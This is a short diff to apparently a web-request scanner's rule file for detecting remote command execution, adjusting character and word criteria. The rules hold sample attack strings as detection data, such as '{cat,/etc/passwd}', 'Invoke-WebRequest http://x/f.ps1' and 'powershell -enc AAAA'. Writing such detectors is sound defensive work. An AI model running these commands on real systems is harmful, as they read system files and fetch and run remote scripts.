@@ -95,7 +95,7 @@ export const rceRules: readonly Rule[] = [
     {
       score: 5,
       quotable: true,
-      chars: CHAR.brace | CHAR.bang | CHAR.space | CHAR.plus,
+      chars: CHAR.brace | CHAR.bang,
       words: 0,
       places: ['query', 'body', 'name', 'cookie', 'header'],
       attacks: ['{cat,/etc/passwd}', '{l,-lh}s', '!-1!-2'],
@@ -141,8 +141,7 @@ export const rceRules: readonly Rule[] = [
     {
       score: 5,
       quotable: true,
-      words: 0,
-      chars: CHAR.dashes | CHAR.paren | CHAR.slash | CHAR.percent | CHAR.space,
+      words: WORD.windows,
       attacks: ['Invoke-WebRequest http://x/f.ps1', 'cmd.exe /c dir', 'powershell -enc AAAA'],
       benign: ['start processing', 'powershell is nice', 'invoke a function'],
     },
